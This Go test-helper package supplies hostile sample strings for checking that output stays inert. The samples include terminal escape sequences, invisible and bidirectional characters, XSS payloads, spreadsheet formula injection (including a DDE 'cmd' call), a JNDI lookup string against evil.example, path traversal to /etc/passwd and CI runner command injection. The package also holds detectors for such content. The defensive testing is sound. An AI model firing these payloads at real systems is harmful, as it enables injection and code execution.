/*
Copyright 2026 The journey-operator Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

// Package hostiletest has texts that a terminal or another program might take for a command. Tests use them to check that none does.
package hostiletest

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode"
)

// Malice is text that tries to control a terminal, to reorder or hide the text around it, or to break out of its field.
const Malice = "ok \x1b[2J\x1b]0;owned\x07 \u009b31m \u202eevil\u2066 \u200b\u00ad \U000e0041 \u3164 \r\nnew line\ttab \u2028 {{.}} | ├─ 日本 é 👩‍👧"

// ForTerminals are texts that a terminal might take for a command.
var ForTerminals = []string{
	Malice,
	"\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b]52;c;ZXZpbA==\x07\b\b\x7f\x9b31m",
	"\u202e\u2066\u2069\u061c\u200b\u2060\ufeff\u2028\u2029\u034f\u115f\u2800\U000e0001\U000e0041",
	"a" + strings.Repeat("\u0335\u0489", 20),
}

// Texts are the texts ForTerminals, and texts that other programs might take for a command.
var Texts = append(slices.Clone(ForTerminals),
	strings.Repeat("W", 150),
	`"><img src=x onerror=alert(1)><script>alert(1)</script></title></style></svg>]]><!-- --> &lt;b&gt; '`,
	`x" onload="alert(1)`,
	"javascript:alert(1)",
	"=cmd|' /C calc'!A0",
	"a;=1+1\tb,\"c\r\n+1\n-1\n@SUM(1)",
	"＝1",
	"click n1_1 href \"javascript:alert(1)\"\nend\n%%{init: {}}%% \"]:::done",
	"@everyone #1 ![x](https://evil.example) `code` | </details> ```\n/close",
	"{html}[~admin]!http://evil.example/x.png! h1. ${jndi:ldap://evil.example} {{.}}",
	"<TABLE><TR><TD HREF=\"javascript:alert(1)\">x</TD></TR></TABLE> \\N \\\" \\",
	"../../etc/passwd\x00",
	"::add-mask::a ::stop-commands::b ##vso[task.setvariable variable=PATH]c ##[group]d",
	"yes", "- a: b\n# c", "<<",
)

// ForPrograms are titles that programs other than a terminal might take for a command.
var ForPrograms = []string{
	Malice, "=1+1", "a;=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "  =1", "＝1", `a","b`, "section x", "click default_i href \"javascript:alert(1)\"",
	"2026-01-01", "title x", "a :crit, b, 2026-01-01, 1d", "%%{init: {}}%%", "%% comment", "# ; : ```", "<script>alert(1)</script>",
	"ﬂ°°60¶ß", "#60;", "gantt", "style a:#1;", "---", "accDescr {", "done", "call f()",
}

// RequireInert fails if a text has characters that do more than print themselves.
func RequireInert(tb testing.TB, text string) {
	tb.Helper()
	for _, r := range text {
		if r == '\n' || unicode.IsGraphic(r) && !strings.ContainsRune("\u034f\u115f\u2800\u3164", r) || r == '\u200d' {
			continue
		}
		tb.Errorf("%q is not inert in:\n%q", r, text)
		return
	}
}

// RequireNoCommands checks that the runner of a CI pipeline finds no command in a log.
func RequireNoCommands(tb testing.TB, text string) {
	tb.Helper()
	for line := range strings.Lines(text) {
		if strings.HasPrefix(strings.TrimSpace(line), "::") || strings.Contains(line, "##vso[") || strings.Contains(line, "##[") {
			tb.Errorf("a runner would obey %q", line)
		}
	}
}

// Quoted is a text as JSON has it.
func Quoted(t testing.TB, text string) string {
	t.Helper()
	quoted, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	return string(quoted)
}

// QuotedUnit is the beginning of a text that is short enough for the unit of a metric, as JSON has it.
func QuotedUnit(t testing.TB, text string) string {
	t.Helper()
	characters := []rune(text)
	return Quoted(t, string(characters[:min(len(characters), 63)]))
}
